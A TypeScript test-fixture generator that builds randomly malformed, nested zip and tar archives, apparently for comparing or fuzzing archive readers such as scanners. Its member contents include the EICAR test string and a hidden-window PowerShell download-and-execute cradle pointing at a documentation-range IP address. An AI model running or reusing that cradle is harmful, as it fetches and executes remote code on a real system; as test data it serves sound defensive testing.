import type { Chance } from './chance.ts';
import { tarEntry } from './containers.ts';
import { EICAR, noise, type ZipEntry, zip } from './files.ts';

// Archives as no program packs them: of two readers, or of one with help and without, both must answer the same for each.

const MIB = 1024 ** 2;
const DEPTH_MAXIMUM = 3;
/** Bytes from which an archive is read by two processes. */
const LEAST_BYTES = 4 * MIB;

const SCRIPT = Buffer.from(
  `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"`,
);

function contentByChance(chance: Chance, depth: number): Buffer {
  const some = (most: number) => noise(chance.below(most), chance.next() | 1);
  const choices = [
    () => some(60_000),
    () => some(3000),
    () => Buffer.concat([some(3000), EICAR, some(500)]),
    () => EICAR,
    () => SCRIPT,
    () => Buffer.alloc(0),
    () => Buffer.alloc(chance.below(MIB)),
    // Larger files are not asked for.
    () => noise(MIB - 50_000 + chance.below(100_000), chance.next() | 1),
    () => Buffer.from('a text that says nothing\n'.repeat(chance.below(400))),
    () => Buffer.from(Buffer.concat([some(600), EICAR]).toString('base64')),
    ...(depth < DEPTH_MAXIMUM
      ? [() => zipByChance(chance, depth + 1, chance.below(10)), () => tarByChance(chance, depth + 1, chance.below(10))]
      : []),
  ];
  return chance.of(choices)();
}

/** Stored, deflated, encrypted, in a method of others, with a wrong size, twice, damaged; with bytes around it, without an end, with two. */
function zipByChance(chance: Chance, depth: number, members: number): Buffer {
  const rarely = (times: number) => chance.below(times) === 0;
  const entries: ZipEntry[] = [];
  for (let index = 0; index < members; index += 1) {
    const again = entries.length > 0 && rarely(12) ? chance.of(entries) : undefined;
    const content = again?.content ?? contentByChance(chance, depth);
    entries.push({
      name: rarely(15) ? 'same' : rarely(40) ? 'folder/' : `${index}`,
      content,
      method: rarely(25) ? chance.of([12, 77, 99]) : chance.of([0, 8, 8]),
      flags: rarely(25) ? 1 : 0,
      claims: rarely(15) ? chance.of([0, 8 * MIB, content.length + 1]) : content.length,
    });
  }
  const archive = zip(entries);
  for (let times = chance.below(4); times > 0; times -= 1) {
    const at = chance.below(archive.length);
    archive.fill(0xa5, at, Math.min(at + 12, archive.length));
  }
  const ends = [
    archive,
    archive,
    archive,
    archive.subarray(0, archive.length - chance.below(200)),
    Buffer.concat([noise(chance.below(3000), 5), archive]),
    Buffer.concat([archive, zip(entries.slice(0, 3))]),
  ];
  return depth === 0 && rarely(2) ? archive : chance.of(ends);
}

/** With links and folders that have a content, unknown types, and invalid blocks. */
function tarByChance(chance: Chance, depth: number, members: number): Buffer {
  const pieces: Buffer[] = [];
  for (let index = 0; index < members; index += 1) {
    const type = chance.below(8) === 0 ? chance.of(['1', '2', '5', 'S', 'L', 'x']) : '0';
    pieces.push(tarEntry({ name: `${index}`, content: contentByChance(chance, depth), type }));
    if (chance.below(25) === 0) pieces.push(noise(512, 9));
  }
  return Buffer.concat([...pieces, Buffer.alloc(1024)]);
}

/** A zip or tar with more in it than one process is left with. */
export function archiveByChance(chance: Chance): Buffer {
  const packed = chance.of([zipByChance, tarByChance]);
  for (let members = 60; ; members += 20) {
    const archive = packed(chance, 0, members);
    if (archive.length > LEAST_BYTES) return archive;
  }
}
